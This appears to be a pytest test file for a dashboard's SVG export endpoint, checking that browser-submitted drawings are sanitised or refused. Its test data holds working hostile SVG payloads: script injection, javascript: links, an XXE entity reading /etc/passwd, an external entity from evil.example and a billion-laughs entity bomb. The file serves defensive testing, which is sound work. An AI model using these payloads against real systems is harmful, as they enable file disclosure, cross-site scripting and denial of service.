"""A drawing that a reader's browser hands in is finished, or nothing of it comes back."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from typing import TYPE_CHECKING, Any

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st

from dashboard.pages import exports
from dashboard.pages.callbacks import PAGES
from dashboard.pages.gallery import Gallery
from dashboard.print import handed_in
from dashboard.print.errors import NoChromeError
from dashboard.print.exporter import Exporter
from dashboard.print.handed_in import DEEPEST, MOST_ELEMENTS, MOST_LETTERS, MOST_TEXTS
from dashboard.print.svg import Head, finished
from dashboard.print.svg_rules import breaches
from dashboard.text import text
from dashboard.web import hosts, limits
from dashboard.web.limits import MAX_DRAWING
from geodata.records import LANGUAGES
from tests.dashboard.test_exports import Pretender
from tests.effort import yardsticks

if TYPE_CHECKING:
    from pathlib import Path

    from werkzeug.test import TestResponse

    from dashboard.scene import Scene

ADDRESS = "/export/explore/industry.svg?regions=110112&words=en&sheet=slide"
HERE, ELSEWHERE = "http://localhost", "https://evil.example"
HEAD = Head((80, 40), (200, 100), "en", "title", "description")
SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PATH = '<path d="M0,0L9.5,9e-1Z" style="fill: rgb(1, 2, 3); stroke-width: 0.8px"/>'
WORDS = '<text x="9" y="99" style="font-size: 40px; fill: rgb(0, 0, 0)">Hebei &lt;b&gt;</text>'
HIDDEN = "HIDDEN"

Hand = Callable[..., "TestResponse"]


def svg(inside: str, before: str = "") -> bytes:
    return f"{before}<svg {SPACES}>{inside}</svg>".encode()


@pytest.fixture(scope="module")
def hand(scene: Scene, tmp_path_factory: pytest.TempPathFactory) -> Hand:
    """Give what hands a drawing to a server that has no Chrome."""
    folder: Path = tmp_path_factory.mktemp("turns")
    server = Flask(__name__)
    limits.cap_requests(server)
    hosts.check_hosts(server, ())
    exporter = Exporter(Pretender(NoChromeError("none")))
    exports.serve(server, exports.Files(Gallery(scene, PAGES), exporter, folder))

    def post(body: bytes, origin: str = HERE, **more: Any) -> TestResponse:  # noqa: ANN401
        told = {"content_type": "image/svg+xml", "path": ADDRESS, **more}
        return server.test_client().post(data=body, headers={"Origin": origin}, **told)

    return post


def test_what_a_browser_drew_comes_back_as_the_server_would_have_made_it(hand: Hand) -> None:
    answer = hand(svg(f'<g class="a">{PATH}{WORDS}</g>'))
    assert answer.status_code == 200
    assert answer.mimetype == "image/svg+xml"
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert "no-store" in answer.headers["Cache-Control"]
    assert breaches(answer.text) == []
    assert 'd="M0,0L9.5,9e-1Z" fill="#010203"' in answer.text
    assert "Hebei &lt;b&gt;" in answer.text
    # 13 1/3 inches, as PowerPoint's slides are; the title is that of the page.
    assert f'width="{40 / 3 * 25.4:.2f}mm"' in answer.text
    assert "<title>" in answer.text


def test_nobody_is_given_what_another_handed_in(hand: Hand) -> None:
    assert "Hebei" in hand(svg(f"<g>{WORDS}</g>")).text
    assert "Hebei" not in hand(svg(f"<g>{PATH}</g>")).text


BOMB = "<!DOCTYPE svg [" + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12)
)
HOSTILE = {
    "script": svg(f"<script>{HIDDEN}</script>"),
    "script in a group": svg(f"<g><script>{HIDDEN}</script>{PATH}</g>"),
    "script of XHTML": svg(
        f'<g xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{HIDDEN}</h:script></g>'
    ),
    "foreignObject": svg(f"<foreignObject><g>{PATH}{HIDDEN}</g></foreignObject>"),
    "use": svg(f'<use xlink:href="#{HIDDEN}"/>'),
    "a link": svg(f'<a xlink:href="javascript:{HIDDEN}">{PATH}</a>'),
    "animate": svg(f'<g><set attributeName="onload" to="{HIDDEN}"/>{PATH}</g>'),
    "style sheet": svg(f"<style>@import url(//evil.example/{HIDDEN})</style>"),
    "style sheet by instruction": svg(
        "<style/>", f'<?xml-stylesheet href="//evil.example/{HIDDEN}"?>'
    ),
    "filter": svg(f'<defs><filter id="{HIDDEN}"/></defs>'),
    "picture from elsewhere": svg(
        f'<g><image width="9" height="9" href="https://evil.example/{HIDDEN}"/></g>'
    ),
    "picture that is a drawing": svg(
        f'<g><image width="9" height="9" href="data:image/svg+xml;base64,{HIDDEN}"/></g>'
    ),
    "picture of nothing": svg('<g><image width="9" height="9"/></g>'),
    "paint from elsewhere": svg(
        f'<path d="M0,0" style="fill: url(https://evil.example/{HIDDEN})"/>'.join(("<g>", "</g>"))
    ),
    "paint that is none": svg(f'<g><path d="M0,0" fill="expression({HIDDEN})"/></g>'),
    "clip from elsewhere": svg(f'<g clip-path="url(https://evil.example/{HIDDEN})">{PATH}</g>'),
    "type from elsewhere": svg(
        f"<g><text style=\"font-family: 'a'; font-size: 9px; font-family: a{HIDDEN}>\">a</text></g>"
    ),
    "entities": svg("<g>&l11;</g>", BOMB + "]>"),
    "entity from a file": svg(
        "<g>&a;</g>", '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    ),
    "document type": svg(PATH, "<!DOCTYPE svg>"),
    "parameter entity": svg(
        PATH, '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/"> %a;]>'
    ),
    "no number": svg('<g><path d="M0,0" style="fill: rgba(0, 0, 0, nan)"/></g>'),
    "endless number": svg('<g><path d="M0,0" style="fill: rgb(inf, 0, 0)"/></g>'),
    "too large a number": svg(
        f'<g><text x="9" y="9" transform="rotate({"9" * 400})" style="font-size: 9px">a</text></g>'
    ),
    "line without a place": svg('<g><rect width="9" height="9" style="fill: red"/></g>'),
    "path that ends": svg(f'<g><path d="H" style="fill: #000000"/>{WORDS}</g>'),
    "text without a size": svg('<g><text><tspan dy="1em">a</tspan></text></g>'),
    "text in text": svg("<g>" + "<text>" * 20 + "a" + "</text>" * 20 + "</g>"),
    "words in a group": svg(f"<g>{HIDDEN}{PATH}{PATH}</g>"),
    "words after a thing": svg(f"<g>{PATH}{HIDDEN}{PATH}</g>"),
    "too deep": svg("<g>" * DEEPEST + PATH + "</g>" * DEEPEST),
    "very deep": svg("<g>" * 50_000 + "</g>" * 50_000),
    "too many things": svg(f"<g>{'<path/>' * MOST_ELEMENTS}</g>"),
    "too many words": svg(f"<g>{WORDS * (MOST_TEXTS + 1)}</g>"),
    "too long words": svg(
        f'<g><text x="1" y="1" style="font-size: 9px">{"a" * (MOST_LETTERS + 1)}</text></g>'
    ),
    "too long a property": svg(f'<g id="{"a" * (MOST_LETTERS + 1)}">{PATH}</g>'),
    "another element": b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
    "no space of names": b"<svg><g/></svg>",
    "no XML": b"HIDDEN<",
    "nothing": b"",
    "not UTF-8": '<?xml version="1.0" encoding="utf-16"?><svg/>'.encode("utf-16"),
    "letters that are none": svg(PATH) + b"\xff",
    "JSON": b'{"figure": "HIDDEN"}',
}


@pytest.mark.parametrize("fault", HOSTILE)
def test_of_what_no_page_draws_nothing_comes_back(hand: Hand, fault: str) -> None:
    answer = hand(HOSTILE[fault])
    assert answer.status_code == 422
    assert answer.mimetype == "text/plain"
    lines = [text(lang)("export.unknown_drawing") for lang in LANGUAGES]
    assert answer.text.splitlines() == lines


def test_what_is_too_large_is_refused_before_it_is_read(hand: Hand) -> None:
    assert hand(bytes(MAX_DRAWING + 1)).status_code == 413
    chunks = {"content_length": None, "input_stream": None}
    assert hand(b"<" * MAX_DRAWING, **chunks).status_code in {413, 422}


def test_only_the_sites_own_pages_hand_in_drawings_of_charts(hand: Hand) -> None:
    assert hand(svg(PATH), origin=ELSEWHERE).status_code == 403
    assert hand(svg(PATH), origin="null").status_code == 403
    assert hand(svg(PATH), content_type="text/plain").status_code == 415
    assert hand(svg(PATH), content_type="multipart/form-data").status_code == 415
    for path, status in {
        "/export/explore/map.pdf": 405,
        "/export/explore/pie.svg": 404,
        "/export/nowhere/map.svg": 404,
        "/export/compare/keys.svg": 404,
    }.items():
        assert hand(svg(PATH), path=path).status_code == status


def test_what_takes_long_to_read_elsewhere_takes_no_time(hand: Hand) -> None:
    """Each is refused in the time of a plain one; a pattern that goes back would take for ever."""
    size = MAX_DRAWING - 1000
    bodies = [
        svg(f'<g><path d="{"1" * size}!" style="fill: #000000"/></g>'),
        svg(f'<g><path d="{"1." * (size // 2)}!" style="fill: #000000"/></g>'),
        svg(f'<g><image width="9" height="9" href="data:image/png;base64,{"A" * size}!"/></g>'),
        svg(f'<g><path d="M0,0" transform="{"translate(1,1)" * 30}!" style="fill: #000000"/></g>'),
    ]
    for body in bodies:
        assert hand(body).status_code == 422
        assert yardsticks(partial(hand, body)) < 100


PIECES = st.sampled_from(
    [
        PATH, WORDS, "<g>", "</g>", "<text>", "</text>", '<tspan x="1" y="1" dy="1em">', "</tspan>",
        '<clipPath id="a"><rect width="9" height="9"/></clipPath>', '<g clip-path="url(#a)">',
        "<defs>", "</defs>", '<rect width="9" height="9" onload="a()" style="fill: #010203"/>',
        '<g style="font-size: 9px; opacity: 0.5">', "<![CDATA[<script>]]>", "&#10;", "&lt;", "<!--",
        "-->", '<g transform="rotate(1,2,3)translate(4)" fill="none" stroke="red">', "<path d=''/>",
        '<path d="MHVLA" style="stroke: rgba(1,2,3,.5); stroke-width: 1e-3"/>', "]]>", "e9", "nan",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=14))
def test_whatever_is_handed_in_is_known_or_refused(pieces: list[str]) -> None:
    try:
        with handed_in.doubted():
            made = finished(handed_in.plotted(svg("".join(pieces))), HEAD)
            handed_in.require_known(made)
    except handed_in.UnknownDrawingError:
        return
    assert breaches(made) == []
    assert "onload" not in made
    assert "<script" not in made
